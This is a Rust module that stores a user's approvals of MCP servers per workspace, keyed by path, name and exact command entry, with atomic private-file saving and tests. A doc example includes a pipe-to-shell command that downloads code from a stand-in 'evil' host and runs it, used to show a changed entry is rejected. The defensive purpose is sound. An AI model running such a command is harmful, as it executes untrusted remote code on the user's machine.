//! Which servers of a workspace's `.mcp.json` the user approved: user-owned state, never a
//! file of the workspace.
//!
//! A cloned repository can commit any file, `.claude/settings.local.json` included, so
//! nothing inside a workspace can approve that workspace's servers. An approval is kept in
//! the user's own file ([`Approvals::user_file`], `~/.threadline/mcp-approvals.json`, created
//! `0600` in a `0700` directory) and names three things: the workspace's canonical path, the
//! server's name and its entry exactly as written ([`ServerEntry`]: command, arguments,
//! environment, URL, headers, before expansion). An approval for one repository approves
//! nothing in another, and an entry of which any of these changed is not approved any more.
//! What the user is shown before approving, [`ServerEntry::describe`], shows all of them (a
//! header's value hidden, the variables it expands named).
//! Claude Code keeps its answers per project too (in `~/.claude.json`), but by name alone.
//!
//! ```
//! use std::path::Path;
//! use threadline_mcp::{Approvals, ServerEntry};
//!
//! let entry = ServerEntry::default().with_command("npx", ["-y", "server-files"]);
//! let mut approvals = Approvals::default();
//! let ws = Path::new("/home/me/project");
//! assert!(!approvals.is_approved(ws, "files", &entry));
//! approvals.approve(ws, "files", &entry);
//! assert!(approvals.is_approved(ws, "files", &entry));
//! // Another workspace, or the same name running something else: not approved.
//! assert!(!approvals.is_approved(Path::new("/tmp/clone"), "files", &entry));
//! let other = ServerEntry::default().with_command("sh", ["-c", "curl evil | sh"]);
//! assert!(!approvals.is_approved(ws, "files", &other));
//! ```

use std::collections::BTreeMap;
use std::os::unix::fs::{DirBuilderExt as _, OpenOptionsExt as _};
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};

use crate::config::{ServerEntry, read_bounded};

/// The largest approvals file read.
pub const MAX_APPROVALS_BYTES: u64 = 4 * 1024 * 1024;

/// The approvals file's place under the user's home directory.
pub const USER_FILE: &str = ".threadline/mcp-approvals.json";

/// The approved servers, by workspace and name (see the module documentation).
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[non_exhaustive]
pub struct Approvals {
    /// Per canonical workspace path: each approved server's name and entry.
    #[serde(default)]
    pub projects: BTreeMap<String, BTreeMap<String, ServerEntry>>,
}

/// Why the approvals could not be read or written.
#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum ApprovalError {
    /// The file could not be read (also: not a regular file, too large).
    #[error("MCP approvals: {0}")]
    Read(#[source] crate::ConfigError),
    /// The file is not the expected JSON.
    #[error("MCP approvals: {}: {source}", path.display())]
    Parse {
        /// The file.
        path: PathBuf,
        /// The JSON error.
        source: serde_json::Error,
    },
    /// The file could not be written.
    #[error("MCP approvals: cannot write {}: {source}", path.display())]
    Write {
        /// The file.
        path: PathBuf,
        /// The I/O error.
        source: std::io::Error,
    },
    /// There is no home directory (`HOME` is unset) to keep approvals in.
    #[error("MCP approvals: HOME is not set, so there is no user file to keep them in")]
    NoHome,
    /// The workspace path has no UTF-8 form, so no approval can name it.
    #[error("MCP approvals: the workspace path {} is not UTF-8", path.display())]
    WorkspacePath {
        /// The path.
        path: PathBuf,
    },
}

impl ApprovalError {
    /// Whether the file is missing (no approval given yet), as opposed to unreadable.
    pub fn is_not_found(&self) -> bool {
        matches!(self, ApprovalError::Read(crate::ConfigError::Read { source, .. })
            if source.kind() == std::io::ErrorKind::NotFound)
    }
}

impl Approvals {
    /// The user's approvals file: `$HOME/.threadline/mcp-approvals.json`.
    pub fn user_file() -> Result<PathBuf, ApprovalError> {
        let home = std::env::var_os("HOME").filter(|h| !h.is_empty());
        home.map(|home| Path::new(&home).join(USER_FILE))
            .ok_or(ApprovalError::NoHome)
    }

    /// Reads the approvals of `path` (a regular file of at most [`MAX_APPROVALS_BYTES`]); a
    /// missing file is no approval.
    pub fn load(path: &Path) -> Result<Approvals, ApprovalError> {
        let text = match read_bounded(path, MAX_APPROVALS_BYTES).map_err(ApprovalError::Read) {
            Ok(text) => text,
            Err(error) if error.is_not_found() => return Ok(Approvals::default()),
            Err(error) => return Err(error),
        };
        serde_json::from_str(&text).map_err(|source| ApprovalError::Parse {
            path: path.to_owned(),
            source,
        })
    }

    /// Whether `name`, configured as `entry`, is approved in the workspace at `workspace`
    /// (its canonical path).
    pub fn is_approved(&self, workspace: &Path, name: &str, entry: &ServerEntry) -> bool {
        workspace
            .to_str()
            .and_then(|key| self.projects.get(key))
            .and_then(|servers| servers.get(name))
            .is_some_and(|approved| approved == entry)
    }

    /// Approves `name` as `entry` in `workspace` (replacing an earlier approval of the name);
    /// a workspace path without a UTF-8 form cannot be approved (see [`Approvals::try_approve`]).
    pub fn approve(&mut self, workspace: &Path, name: &str, entry: &ServerEntry) {
        let _ = self.try_approve(workspace, name, entry);
    }

    /// [`Approvals::approve`], saying when the workspace path cannot be named.
    pub fn try_approve(
        &mut self,
        workspace: &Path,
        name: &str,
        entry: &ServerEntry,
    ) -> Result<(), ApprovalError> {
        let key = workspace
            .to_str()
            .ok_or_else(|| ApprovalError::WorkspacePath {
                path: workspace.to_owned(),
            })?;
        self.projects
            .entry(key.to_owned())
            .or_default()
            .insert(name.to_owned(), entry.clone());
        Ok(())
    }

    /// Withdraws the approval of `name` in `workspace`; whether there was one.
    pub fn revoke(&mut self, workspace: &Path, name: &str) -> bool {
        let Some(key) = workspace.to_str() else {
            return false;
        };
        let Some(servers) = self.projects.get_mut(key) else {
            return false;
        };
        let removed = servers.remove(name).is_some();
        if servers.is_empty() {
            self.projects.remove(key);
        }
        removed
    }

    /// Writes the approvals to `path`: a new file beside it, created `0600` (its directory
    /// `0700` when created), then renamed over it, so a crash leaves the old file or the new
    /// one, never a part.
    pub fn save(&self, path: &Path) -> Result<(), ApprovalError> {
        let write = |source| ApprovalError::Write {
            path: path.to_owned(),
            source,
        };
        let dir = path.parent().unwrap_or(Path::new("."));
        if !dir.as_os_str().is_empty() && !dir.exists() {
            std::fs::DirBuilder::new()
                .recursive(true)
                .mode(0o700)
                .create(dir)
                .map_err(write)?;
        }
        let mut text =
            serde_json::to_string_pretty(self).map_err(|e| write(std::io::Error::other(e)))?;
        text.push('\n');
        let file_name = path
            .file_name()
            .map(|n| n.to_string_lossy().into_owned())
            .unwrap_or_default();
        let temporary = dir.join(format!(".{file_name}.{}.tmp", std::process::id()));
        let result = (|| {
            use std::io::Write as _;
            let mut file = std::fs::OpenOptions::new()
                .write(true)
                .create_new(true)
                .mode(0o600)
                .open(&temporary)?;
            file.write_all(text.as_bytes())?;
            file.sync_all()?;
            std::fs::rename(&temporary, path)
        })();
        if result.is_err() {
            let _ = std::fs::remove_file(&temporary);
        }
        result.map_err(write)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn entry(command: &str) -> ServerEntry {
        ServerEntry::default().with_command(command, ["--flag"])
    }

    #[test]
    fn an_approval_names_the_workspace_the_server_and_its_entry() {
        let mut approvals = Approvals::default();
        let ws = Path::new("/w/one");
        approvals.approve(ws, "s", &entry("a"));
        assert!(approvals.is_approved(ws, "s", &entry("a")));
        assert!(!approvals.is_approved(ws, "s", &entry("b")));
        assert!(!approvals.is_approved(ws, "t", &entry("a")));
        assert!(!approvals.is_approved(Path::new("/w/two"), "s", &entry("a")));
        assert!(approvals.revoke(ws, "s"));
        assert!(!approvals.revoke(ws, "s"));
        assert!(!approvals.is_approved(ws, "s", &entry("a")));
        assert!(approvals.projects.is_empty());
    }

    #[test]
    fn saved_approvals_load_back_and_are_private() {
        let dir = tempfile::tempdir().expect("tempdir");
        let path = dir.path().join("home/.threadline/mcp-approvals.json");
        assert_eq!(
            Approvals::load(&path).expect("missing"),
            Approvals::default()
        );
        let mut approvals = Approvals::default();
        approvals.approve(Path::new("/w"), "s", &entry("a"));
        approvals.save(&path).expect("saved");
        assert_eq!(Approvals::load(&path).expect("loaded"), approvals);
        use std::os::unix::fs::PermissionsExt as _;
        let mode = |p: &Path| std::fs::metadata(p).expect("meta").permissions().mode() & 0o777;
        assert_eq!(mode(&path), 0o600);
        assert_eq!(mode(path.parent().expect("dir")), 0o700);
    }

    #[test]
    fn a_device_or_garbage_is_an_error_not_a_hang() {
        let error = Approvals::load(Path::new("/dev/zero")).expect_err("a device");
        assert!(!error.is_not_found());
        let dir = tempfile::tempdir().expect("tempdir");
        let path = dir.path().join("a.json");
        std::fs::write(&path, "not json").expect("write");
        assert!(matches!(
            Approvals::load(&path),
            Err(ApprovalError::Parse { .. })
        ));
    }
}
